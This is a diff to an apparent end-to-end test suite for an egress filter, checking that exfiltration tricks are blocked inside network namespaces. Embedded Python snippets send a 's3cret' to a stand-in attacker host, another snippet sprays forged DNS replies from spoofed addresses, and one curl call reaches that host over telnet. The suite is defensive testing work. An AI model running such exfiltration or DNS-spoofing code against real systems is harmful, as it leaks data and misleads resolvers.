@@ -1,4 +1,4 @@
-import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
+import { type ChildProcess, execFileSync, spawn, spawnSync } from 'node:child_process';
 import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { asked, type Lab, reached, WORLD } from '../e2e/lab.ts';
@@ -47,9 +47,9 @@ describe('queries made by hand', () => {
   let both: Both;
   let caught: Map<string, Attempt>;
   beforeAll(async () => {
-    both = await attack(lab, [PYTHON, program(lab, 'queries.py'), WORLD.dns, WORLD.evil], { policy: POLICY });
+    both = await attack(lab, [PYTHON, program(lab, 'queries.py'), WORLD.dns, WORLD.evil], { policy: POLICY, timeoutMs: 110_000 });
     caught = attempts(both.caught.stdout);
-  });
+  }, 240_000);
 
   test('without the filter they reach the servers, with it no server sees a byte of them', () => {
     expect(evil(asked(both.free)).length).toBeGreaterThanOrEqual(18);
@@ -240,7 +240,7 @@ describe('D7: answers that lie', () => {
   async function withChangingDns(labels: string, policy: string): Promise<Both> {
     const path = `/etc/netns/${lab.job}/resolv.conf`;
     const saved = readFileSync(path);
-    writeFileSync(path, 'nameserver 203.0.113.54\noptions timeout:1 attempts:1\n');
+    writeFileSync(path, 'nameserver 203.0.113.54\noptions timeout:10 attempts:1\n');
     const script = `import socket, sys
 # The server counts by name: each process has one of its own.
 name = '${labels}.' + str(__import__('os').getpid()) + '.rebind.test'
@@ -291,24 +291,124 @@ for i in range(4):
   });
 
   test('a name of our own machine in the file of hosts, or chosen by the client, binds nothing', async () => {
-    const { free, caught } = await attack(lab, curl('--resolve', `ok.test:9999:${WORLD.evil}`, 'telnet://ok.test:9999'), {
-      policy: 'ok.test:9999',
-    });
+    // Without the filter somebody answers, and then nobody ends it.
+    const telnet = ['curl', '-sS', '--max-time', '5', '--resolve', `ok.test:9999:${WORLD.evil}`, 'telnet://ok.test:9999'];
+    const { free, caught } = await attack(lab, telnet, { policy: 'ok.test:9999' });
     expect(free.packets.filter(({ dst }) => dst === WORLD.evil)).not.toEqual([]);
     expect(reached(caught, WORLD.evil)).toEqual([]);
     expect(denials(caught)).toContainEqual(expect.objectContaining({ dst_ip: WORLD.evil, dst_port: 9999, exe: '/usr/bin/curl' }));
   });
 
-  test.each(['udp', 'tcp'])("a server of the job's own at this machine's address, which a rule covers, over %s", async (transport) => {
-    const { free, caught } = await attack(lab, [PYTHON, program(lab, 'own-dns.py'), '10.77.0.2', WORLD.evil, transport], {
-      policy: '10.0.0.0/8:*\n10.0.0.0/8:*/udp\nok.test:9999',
-      user: 'root',
+  describe("a server at this machine's address, which a rule covers", () => {
+    beforeAll(() => serve(lab.job, 'own-dns.py', 'serve', '10.77.0.2', WORLD.evil, '-'));
+
+    test.each(['udp', 'tcp'])('over %s', async (transport) => {
+      const { free, caught } = await attack(lab, [PYTHON, program(lab, 'own-dns.py'), 'ask', '10.77.0.2', WORLD.evil, transport], {
+        policy: '10.0.0.0/8:*\n10.0.0.0/8:*/udp\nok.test:9999',
+      });
+      expect(free.stdout).toContain("echo b's3cret'");
+      // It is asked, as it may be, and the client hears its answer: a name is bound by neither.
+      expect(caught.stdout).toContain('told True\nrefused');
+      expect(reached(caught, WORLD.evil)).toEqual([]);
+      expect(denials(caught)).toContainEqual(expect.objectContaining({ dst_ip: WORLD.evil, dst_port: 9999, exe: PYTHON_EXE }));
     });
-    expect(free.stdout).toContain("echo b's3cret'");
-    // It is asked, as it may be, and the client hears its answer: a name is bound by neither.
-    expect(caught.stdout).toContain('asked\ntold True\nrefused');
-    expect(reached(caught, WORLD.evil)).toEqual([]);
-    expect(denials(caught)).toContainEqual(expect.objectContaining({ dst_ip: WORLD.evil, dst_port: 9999, exe: PYTHON_EXE }));
+  });
+
+  describe.each([
+    ['on a port that it shares', '127.0.0.11', 53],
+    ["by flows that conntrack takes for its answers, where it is asked at another port (Docker's)", '127.0.0.12', 45353],
+  ])("the place of the machine's name server, at an address of the machine: %s", (_how, address, port) => {
+    const path = (): string => `/etc/netns/${lab.job}/resolv.conf`;
+    const inJob = (...argv: string[]): void => void execFileSync('ip', ['netns', 'exec', lab.job, ...argv], { stdio: 'pipe' });
+    const nat = (how: '-A' | '-D'): void => {
+      if (port === 53) return;
+      const [there, back] = [`${address}:${port}`, `${address}:53`];
+      inJob('iptables', '-t', 'nat', how, 'OUTPUT', '-d', address, '-p', 'udp', '--dport', '53', '-j', 'DNAT', '--to-destination', there);
+      inJob(
+        'iptables',
+        '-t',
+        'nat',
+        how,
+        'POSTROUTING',
+        '-s',
+        address,
+        '-p',
+        'udp',
+        '--sport',
+        `${port}`,
+        '-j',
+        'SNAT',
+        '--to-source',
+        back,
+      );
+    };
+    let saved: Buffer;
+    beforeAll(async () => {
+      saved = readFileSync(path());
+      // As in containers.
+      inJob('sysctl', '-qw', 'net.ipv4.ip_unprivileged_port_start=0');
+      await serve(lab.job, 'local-dns.py', address, `${port}`, WORLD.dns);
+      nat('-A');
+      writeFileSync(path(), `nameserver ${address}\n`);
+    });
+    afterAll(() => {
+      writeFileSync(path(), saved);
+      nat('-D');
+      inJob('sysctl', '-qw', 'net.ipv4.ip_unprivileged_port_start=1024');
+    });
+
+    test("is nobody else's to take", async () => {
+      const asked = await lab.run(['getent', 'hosts', 'ok.test'], { policy: 'ok.test:9999' });
+      expect(asked.stdout).toContain(WORLD.ok);
+      const { free, caught } = await attack(lab, [PYTHON, program(lab, 'resolver-port.py'), address, WORLD.evil], {
+        policy: 'ok.test:9999',
+      });
+      expect(free.stdout).toContain("echo b's3cret'");
+      expect(caught.stderr).toContain('PermissionError');
+      expect(reached(caught, WORLD.evil)).toEqual([]);
+      expect(denials(caught)).toContainEqual(expect.objectContaining({ type: 'socket', src_port: 53, exe: PYTHON_EXE, uid: 65534 }));
+    });
+  });
+
+  describe.each([
+    ['behind a bridge', 'bridge', '172.30.0.2'],
+    ['at the other end of a veth', 'veth', '172.30.1.2'],
+    ['behind a bridge that claims the address of a server elsewhere', 'bridge', '203.0.113.99'],
+  ] as const)("a server in a container of the job's %s, which a rule covers", (_where, kind, address) => {
+    const container = `egfc${process.pid}`;
+    beforeAll(async () => {
+      const ip = (...args: string[]): void => void execFileSync('ip', args, { stdio: 'pipe' });
+      ip('netns', 'add', container);
+      ip('link', 'add', 'guest', 'netns', lab.job, 'type', 'veth', 'peer', 'name', 'eth0', 'netns', container);
+      if (kind === 'bridge') {
+        ip('-n', lab.job, 'link', 'add', 'br-guests', 'type', 'bridge');
+        ip('-n', lab.job, 'link', 'set', 'guest', 'master', 'br-guests');
+      }
+      const inside = kind === 'bridge' ? 'br-guests' : 'guest';
+      ip('-n', lab.job, 'link', 'set', 'guest', 'up');
+      ip('-n', lab.job, 'link', 'set', inside, 'up');
+      ip('-n', lab.job, 'addr', 'add', '172.30.255.1/32', 'dev', inside);
+      ip('-n', lab.job, 'route', 'add', `${address}/32`, 'dev', inside);
+      ip('-n', container, 'link', 'set', 'eth0', 'up');
+      ip('-n', container, 'addr', 'add', `${address}/32`, 'dev', 'eth0');
+      ip('-n', container, 'route', 'add', 'default', 'dev', 'eth0');
+      await serve(container, 'own-dns.py', 'serve', address, WORLD.evil, '-');
+    });
+    afterAll(() => {
+      spawnSync('ip', ['-n', lab.job, 'link', 'del', 'guest']);
+      spawnSync('ip', ['-n', lab.job, 'link', 'del', 'br-guests']);
+      spawnSync('ip', ['netns', 'del', container]);
+    });
+
+    test.each(['udp', 'tcp'])('over %s', async (transport) => {
+      const { free, caught } = await attack(lab, [PYTHON, program(lab, 'own-dns.py'), 'ask', address, WORLD.evil, transport], {
+        policy: `172.16.0.0/12:*\n172.16.0.0/12:*/udp\n${address}:53\n${address}:53/udp\nok.test:9999`,
+      });
+      expect(free.stdout).toContain("echo b's3cret'");
+      expect(caught.stdout).toContain('told True\nrefused');
+      expect(reached(caught, WORLD.evil)).toEqual([]);
+      expect(denials(caught)).toContainEqual(expect.objectContaining({ dst_ip: WORLD.evil, dst_port: 9999, exe: PYTHON_EXE }));
+    });
   });
 
   test('an alias of an allowed name is a name of its own, and the allowed name opens nothing for it', async () => {
@@ -337,17 +437,19 @@ for i in range(4):
         hex(WORLD.evil),
       'hex',
     );
-    const spray = `import socket
-for source in ('${WORLD.dns}', '${WORLD.evil}'):
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind((source, 5300))
-    for port in range(30000, 61000, 3): s.sendto(bytes.fromhex('${forged.toString('hex')}'), ('10.77.0.2', port))`;
+    const spray = `import socket, time
+while True:
+    for source in ('${WORLD.dns}', '${WORLD.evil}'):
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind((source, 5300))
+        for port in range(30000, 61000, 3): s.sendto(bytes.fromhex('${forged.toString('hex')}'), ('10.77.0.2', port))
+    time.sleep(2)`;
     const inside = `import socket, time
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('0.0.0.0', 30000)); s.settimeout(4); s.recv(512)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('0.0.0.0', 30000)); s.settimeout(60); s.recv(512)
 time.sleep(0.3); f = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); f.sendto(bytes.fromhex('${forged.toString('hex')}'), ('127.0.0.53', 53))
-c = socket.create_connection(('${WORLD.evil}', 9999), 2); c.sendall(b's3cret'); print(c.recv(9))`;
+c = socket.create_connection(('${WORLD.evil}', 9999), 30); c.sendall(b's3cret'); print(c.recv(9))`;
     const running = lab.run([PYTHON, '-c', inside], { policy: 'ok.test:9999\nok.test' });
-    const timer = setInterval(() => spawnSync('ip', ['netns', 'exec', lab.world, PYTHON, '-c', spray]), 400);
-    const caught = await running.finally(() => clearInterval(timer));
+    const sprayer = spawn('ip', ['netns', 'exec', lab.world, PYTHON, '-c', spray], { stdio: 'ignore' });
+    const caught = await running.finally(() => sprayer.kill('SIGKILL'));
     expect(caught.stderr).toContain('ConnectionResetError');
     // The kernel of the job answers a datagram for a closed port by itself (ICMP), with nothing of the job's in it.
     expect(caught.packets.filter(({ dst, proto }) => dst === WORLD.evil && proto !== 1)).toEqual([]);
